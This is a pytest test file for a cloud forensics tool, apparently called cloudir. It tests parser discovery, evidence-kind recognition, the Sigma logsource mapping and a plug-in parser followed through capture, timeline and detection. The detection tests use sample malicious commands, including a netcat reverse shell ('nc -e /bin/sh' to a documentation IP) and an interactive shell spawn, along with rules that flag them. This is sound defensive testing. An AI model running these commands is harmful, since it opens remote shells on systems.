"""One declaration per parser: discovery, recognition, the logsource table and its docs.

The parsers declare their evidence kinds, how their files are recognised, the artifacts
their rows carry and the Sigma logsources those serve; `capture files --kind`, the
detection engine's `LOGSOURCES` and docs/detection.md are built or checked from that.
The last test adds a parser for a made-up log type as one file, outside the repository,
and follows one of its files from capture to a finding.
"""

from __future__ import annotations

import bz2
import gzip
import json
import logging
import subprocess
import sys
import tarfile
import textwrap
from importlib.metadata import EntryPoint
from pathlib import Path

import pytest

from cloudir.analyze import parsers as registry
from cloudir.analyze.parsers import capture_kinds, parser_for, parsers, recognise_kind
from tests.conftest import REPO, cloudir, query
from tests.test_sniff import ext_head
from tests.timeline_rows import timeline_row, write_timeline

PROCESS_CONDITION = "json_extract_string(raw, '$.CommandLine') IS NOT NULL"


# -- discovery --------------------------------------------------------------------------------
def test_every_parser_module_is_found_in_a_fixed_order() -> None:
    found = [(p.name, p.evidence_kinds) for p in parsers()]
    assert found == [
        ("cloudtrail", ("cloudtrail",)),
        ("host", ("disk-image",)),
        ("image", ("container-image",)),
        ("container", ("container",)),
        ("alert", ("alert",)),
        ("response", ("response",)),
        ("route53-resolver", ("route53-resolver",)),
        ("cloudwatch-logs", ("cloudwatch-logs",)),
        ("lambda-config", ("lambda-function",)),
        ("vpc-flow", ("vpc-flow",)),
        ("kubernetes-audit", ("eks-audit",)),
        ("eks-cluster", ("eks-cluster",)),
        ("s3-access", ("s3-access",)),
        ("alb-access", ("alb-access",)),
        ("host", ("ebs-snapshot", "files")),
    ]
    assert not hasattr(registry, "_PARSER_MODULES")


def test_one_module_imported_alone_still_finds_every_parser() -> None:
    code = (
        "import cloudir.analyze.parsers.host\n"
        "from cloudir.analyze.parsers import parsers\n"
        "print(sorted({p.name for p in parsers()}))\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=REPO
    ).stdout
    assert out.strip() == (
        "['alb-access', 'alert', 'cloudtrail', 'cloudwatch-logs', 'container', 'eks-cluster', "
        "'host', 'image', 'kubernetes-audit', 'lambda-config', 'response', 'route53-resolver', "
        "'s3-access', 'vpc-flow']"
    )


def test_a_broken_plug_in_is_one_warning_not_a_crash(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    broken = EntryPoint("broken", "cloudir_no_such_plugin_module:PARSER", "cloudir.parsers")
    monkeypatch.setattr(registry, "entry_points", lambda group: [broken])
    before = list(parsers())
    with caplog.at_level(logging.WARNING, logger="cloudir.parsers"):
        registry.discover(again=True)
    assert parsers() == before
    [record] = caplog.records
    assert "\n" not in record.getMessage()
    assert record.getMessage().startswith(
        "cloudir: parser plug-in 'broken' (cloudir_no_such_plugin_module:PARSER) not loaded: "
        "ModuleNotFoundError"
    )


# -- what is built from the declarations ------------------------------------------------------
def test_capture_kinds_are_the_declared_ones_in_todays_order() -> None:
    assert capture_kinds() == [
        "cloudtrail", "disk-image", "container-image", "alert", "route53-resolver",
        "cloudwatch-logs", "lambda-function", "vpc-flow", "s3-access", "alb-access", "files",
    ]  # fmt: skip


def test_an_unknown_kind_is_refused_with_the_declared_list(tmp_path: Path) -> None:
    (tmp_path / "x.log").write_text("x\n")
    result = cloudir(
        "capture", "files", "--case", str(tmp_path / "case"), "--kind", "nope", str(tmp_path)
    )
    assert result.code == 2
    listed = (
        "auto, cloudtrail, disk-image, container-image, alert, route53-resolver, "
        "cloudwatch-logs, lambda-function, vpc-flow, s3-access, alb-access or files"
    )
    assert f"--kind must be {listed}" in " ".join(result.stderr.split())


def test_logsources_select_the_rows_they_did_plus_shell_history() -> None:
    from cloudir.analyze.detect import LOGSOURCES, LogSource

    syslog = ("linux:auth", "linux:syslog", "linux:cron", "linux:journal")
    process = ("linux:auditd", "linux:bash_history", "linux:zsh_history", "linux:shell_history")
    expected = {
        ("aws", "cloudtrail", None): LogSource(("aws:cloudtrail",)),
        ("aws", None, None): LogSource(("aws:cloudtrail",)),
        ("linux", "auth", None): LogSource(("linux:auth",)),
        ("linux", "sshd", None): LogSource(("linux:auth",)),
        ("linux", "syslog", None): LogSource(syslog),
        ("linux", "cron", None): LogSource(("linux:cron",)),
        ("linux", "auditd", None): LogSource(("linux:auditd",)),
        ("linux", None, "process_creation"): LogSource(process, PROCESS_CONDITION),
        ("docker", "diff", None): LogSource(("container:diff",)),
        ("docker", None, None): LogSource(("container:diff", "container:state", "container:log")),
        ("aws", "route53", None): LogSource(("aws:route53_resolver",)),
        (None, None, "dns"): LogSource(("aws:route53_resolver",)),
        ("aws", "lambda", None): LogSource(("aws:lambda",)),
        ("aws", "vpcflowlogs", None): LogSource(("aws:vpc-flow",)),
        ("aws", None, "network_connection"): LogSource(("aws:vpc-flow",), "src_ip IS NOT NULL"),
        (None, None, "network_connection"): LogSource(("aws:vpc-flow",), "src_ip IS NOT NULL"),
        ("kubernetes", "audit", None): LogSource(("kubernetes:audit",)),
        ("kubernetes", None, None): LogSource(("kubernetes:audit",)),
        ("aws", "eks", None): LogSource(("aws:eks-cluster",)),
        ("aws", "s3", None): LogSource(("aws:s3_access",)),
        (None, None, "webserver"): LogSource(("aws:alb_access",)),
        (None, None, "proxy"): LogSource(("aws:alb_access",)),
        ("aws", "elb", None): LogSource(("aws:alb_access",)),
    }
    assert list(LOGSOURCES.items()) == list(expected.items())


def test_artifacts_with_different_conditions_keep_their_own() -> None:
    from cloudir.analyze.detect import _selection

    mixed = _selection([("a:one", None), ("a:two", "x IS NOT NULL")])
    assert mixed.artifacts == ("a:one", "a:two")
    assert mixed.condition == "(artifact = 'a:one') OR (artifact = 'a:two' AND (x IS NOT NULL))"


def test_docs_detection_table_is_the_declared_one() -> None:
    """When this fails, print the tables and paste them into docs/detection.md:
    python -m cloudir.analyze.parsers._tables"""
    from cloudir.analyze.parsers._tables import BEGIN, END, declared_tables

    text = (REPO / "docs" / "detection.md").read_text()
    assert text.count(BEGIN) == 1 and text.count(END) == 1
    held = text[text.index(BEGIN) : text.index(END) + len(END)]
    assert held == declared_tables(), (
        "docs/detection.md differs from the parsers' declarations; paste the output of "
        "`python -m cloudir.analyze.parsers._tables`"
    )


def test_a_process_creation_rule_sees_shell_history(tmp_path: Path) -> None:
    """ash and fish history (`linux:shell_history`) were left out of process_creation."""
    case = tmp_path / "case"
    command = "nc -e /bin/sh 203.0.113.7 4444"
    raw = {"Image": "nc", "CommandLine": command, "User": "root", "ParentImage": "/bin/ash"}
    write_timeline(
        case,
        [
            timeline_row("linux:shell_history", "2026-01-01T10:00:00Z", raw, user="root"),
            timeline_row("linux:shell_history", "2026-01-01T10:01:00Z", {"line": command}),
        ],
    )
    rule = tmp_path / "nc.yml"
    rule.write_text(
        textwrap.dedent(
            """\
            title: netcat with exec
            id: 6a1f1f0e-0000-4000-8000-000000000001
            status: test
            logsource: {product: linux, category: process_creation}
            detection:
              selection: {CommandLine|contains: 'nc -e'}
              condition: selection
            level: high
            """
        )
    )
    result = cloudir("detect", "--case", str(case), "--rules", str(rule), "--no-builtin", "--json")
    assert result.code == 1, result.stderr
    [finding] = result.json()["findings"]
    assert finding["title"] == "netcat with exec"
    assert finding["count"] == 1  # the row without a CommandLine is not a process creation


# -- recognising by name, as before, and by content --------------------------------------------
EXT4_HEAD = ext_head()


def _files(tmp_path: Path, files: dict[str, bytes]) -> list[Path]:
    paths = []
    for name, data in files.items():
        path = tmp_path / name
        path.write_bytes(data)
        paths.append(path)
    return paths


@pytest.mark.parametrize(
    ("files", "kind"),
    [
        ({"trail.json": b"{}"}, "cloudtrail"),
        ({"a.json.gz": b"x", "disk.raw": b"x"}, "cloudtrail"),  # a name, first parser wins
        ({"events.ndjson": b""}, "cloudtrail"),
        ({"web.E01": b"x"}, "disk-image"),
        ({"web.E02": b"x"}, "disk-image"),
        ({"disk.000": b"x", "disk.001": b"x"}, "disk-image"),
        ({"rootfs.tar.gz": b"x"}, "disk-image"),
        ({"disk.vmdk": b"x"}, "disk-image"),
        ({"notes.txt": b"hello"}, "files"),
        ({"notes.gz": gzip.compress(b"hello")}, "files"),
        ({"disk.ext4": EXT4_HEAD}, "disk-image"),
        ({"evidence.bin": EXT4_HEAD}, "disk-image"),
        ({"sda": EXT4_HEAD}, "disk-image"),
        ({"web-1": b"EVF\x09\x0d\x0a\xff\x00" + bytes(100)}, "disk-image"),
        ({"export": gzip.compress(json.dumps({"Records": []}).encode())}, "cloudtrail"),
        ({"export.bz2": bz2.compress(json.dumps({"Records": []}).encode())}, "cloudtrail"),
        ({"truncated.bin": EXT4_HEAD[:1081]}, "files"),
        ({"empty": b""}, "files"),
    ],
)
def test_recognised_kind(tmp_path: Path, files: dict[str, bytes], kind: str) -> None:
    assert recognise_kind(_files(tmp_path, files)) == kind


def _tar(path: Path, members: dict[str, bytes]) -> Path:
    import io

    with tarfile.open(path, "w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def test_a_saved_image_is_a_container_image_a_plain_tar_a_file_system(tmp_path: Path) -> None:
    saved = _tar(tmp_path / "app.tar", {"manifest.json": b"[]"})
    unnamed = _tar(tmp_path / "app-image", {"manifest.json": b"[]"})
    plain = _tar(tmp_path / "rootfs.tar", {"etc/hostname": b"web\n"})
    assert recognise_kind([saved]) == "container-image"
    assert recognise_kind([unnamed]) == "container-image"
    assert recognise_kind([plain]) == "disk-image"
    assert parser_for("container-image", unnamed) is not None


def test_a_disk_image_in_a_files_item_is_read_whatever_its_name(tmp_path: Path) -> None:
    """The timeline gave `disk.ext4` "no parser for this file"; now the host parser takes it."""
    image = tmp_path / "disk.ext4"
    image.write_bytes(EXT4_HEAD)
    notes = tmp_path / "notes.txt"
    notes.write_text("not an image\n")
    found = parser_for("files", image)
    assert found is not None and found.name == "host"
    assert parser_for("files", notes) is None
    later = tmp_path / "disk.002"
    later.write_bytes(EXT4_HEAD)
    assert parser_for("files", later) is None  # a later segment is read with its first


def test_capture_without_a_recogniser_keeps_files_as_files(tmp_path: Path) -> None:
    """capture/files.py does not import analysis; what the CLI does not inject is `files`."""
    from cloudir.capture.files import guess_kind

    image = tmp_path / "disk.raw"
    image.write_bytes(b"x")
    assert guess_kind([image]) == "files"
    assert guess_kind([image], recognise_kind) == "disk-image"
    code = (
        "import sys, cloudir.capture.files\n"
        "print([m for m in sys.modules if m.startswith('cloudir.analyze')])\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=REPO
    ).stdout
    assert out.strip() == "[]"


def test_capture_auto_names_a_suffixless_disk_image(tmp_path: Path) -> None:
    image = tmp_path / "evidence.bin"
    image.write_bytes(EXT4_HEAD)
    result = cloudir("capture", "files", "--case", str(tmp_path / "case"), str(image), "--json")
    assert result.code == 0, result.stderr
    assert [item["kind"] for item in result.json()["items"]] == ["disk-image"]


# -- a new log type is one new file ---------------------------------------------------------
SAMPLE_PARSER = '''\
"""A made-up log type: a `WIDGETLOG v1` line, then `time<TAB>user<TAB>command` lines."""

from pathlib import Path

from cloudir.analyze.host.rows import host_row, raw_json
from cloudir.analyze.parsers import (
    BY_CONTENT, NOT_MINE, Logsource, Parser, RowSource, batches, register,
)

MAGIC = b"WIDGETLOG v1\\n"


def accepts(path):
    try:
        with open(path, "rb") as fh:
            return fh.read(len(MAGIC)) == MAGIC
    except OSError:
        return False


def recognise(paths):
    return BY_CONTENT if any(accepts(p) for p in paths) else NOT_MINE


def parse(path, evidence_id, errors, options=None):
    def rows():
        for line in Path(path).read_text().splitlines()[1:]:
            when, user, command = line.split("\\t")
            yield host_row(
                when=when, desc="Event Time", artifact="widget:audit", host="widget-1",
                evidence_id=evidence_id, raw=raw_json({"CommandLine": command, "User": user}),
                message=f"{user}: {command}", user=user, action="widget:command",
                target=command, source="widget",
            )

    yield from batches(rows(), errors)


PARSER = register(
    Parser(
        name="widget",
        evidence_kinds=("widget-log",),
        accepts=accepts,
        parse=parse,
        artifacts=(
            RowSource("widget:audit", "one widget command", (Logsource("widget", "audit"),)),
        ),
        capture_kind="widget-log",
        recognise=recognise,
        priority=60,
    )
)
'''

WIDGET_RULE = """\
title: widget shell spawned
id: 6a1f1f0e-0000-4000-8000-000000000002
status: test
logsource: {product: widget, service: audit}
detection:
  selection: {CommandLine|contains: '/bin/sh'}
  condition: selection
level: high
"""


def test_a_new_log_type_is_one_new_file(tmp_path: Path) -> None:
    """The whole addition is `cloudir_widget.py`; the dist-info beside it is what `pip
    install` of a package declaring the entry point would leave, not a cloudir file."""
    plugin = tmp_path / "site"
    plugin.mkdir()
    (plugin / "cloudir_widget.py").write_text(SAMPLE_PARSER)
    info = plugin / "cloudir_widget-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: cloudir-widget\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text("[cloudir.parsers]\nwidget = cloudir_widget:PARSER\n")
    env = {"PYTHONPATH": f"{REPO}:{plugin}"}
    log = tmp_path / "evidence" / "gadget.out"
    log.parent.mkdir()
    log.write_text(
        "WIDGETLOG v1\n"
        "2026-01-01T10:00:00Z\talice\tls -la\n"
        "2026-01-01T10:05:00Z\tmallory\tsh -c /bin/sh -i\n"
    )
    case = tmp_path / "case"

    refused = cloudir("capture", "files", "--case", str(case), "--kind", "x", str(log), env=env)
    listed = " ".join(refused.stderr.split())  # the plug-in's kind among the built-in ones
    assert ", widget-log, " in listed and listed.endswith(" or files")

    captured = cloudir("capture", "files", "--case", str(case), str(log), "--json", env=env)
    assert captured.code == 0, captured.stderr
    assert [item["kind"] for item in captured.json()["items"]] == ["widget-log"]

    built = cloudir("timeline", "--case", str(case), "--json", env=env)
    assert built.code == 0, built.stderr
    rows = query(case, "SELECT user, target FROM timeline WHERE artifact = 'widget:audit'")
    assert sorted(r["user"] for r in rows) == ["alice", "mallory"]

    rule = tmp_path / "widget.yml"
    rule.write_text(WIDGET_RULE)
    found = cloudir(
        "detect", "--case", str(case), "--rules", str(rule), "--no-builtin", "--json", env=env
    )
    assert found.code == 1, found.stderr
    [finding] = found.json()["findings"]
    assert finding["title"] == "widget shell spawned" and finding["count"] == 1

    without = cloudir("detect", "--case", str(case), "--rules", str(rule), "--no-builtin")
    assert "no timeline data for logsource ('widget', 'audit', None)" in without.stderr


def test_a_module_dropped_into_the_package_is_found(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The other way in: a module beside the built-in ones (here a folder added to the
    package's search path, so nothing is left in the repository) is found by the scan."""
    from cloudir.analyze.detect import declared_logsources

    folder = tmp_path / "more_parsers"
    folder.mkdir()
    (folder / "widget.py").write_text(SAMPLE_PARSER)
    (folder / "_helpers.py").write_text("raise RuntimeError('a private module is not a parser')\n")
    monkeypatch.setattr(registry, "__path__", [*registry.__path__, str(folder)])
    before = list(registry._REGISTRY)
    try:
        registry.discover(again=True)
        names = [p.name for p in parsers()]
        assert "widget" in names and names[-1] == "host"  # the catch-all `files` reader last
        kinds = capture_kinds()
        assert "widget-log" in kinds and kinds[-1] == "files"
        log = tmp_path / "gadget.out"
        log.write_text("WIDGETLOG v1\n2026-01-01T10:00:00Z\talice\tls\n")
        assert recognise_kind([log]) == "widget-log"
        assert declared_logsources()[("widget", "audit", None)].artifacts == ("widget:audit",)
    finally:
        registry._REGISTRY[:] = before
        sys.modules.pop("cloudir.analyze.parsers.widget", None)
    assert "widget-log" not in capture_kinds()
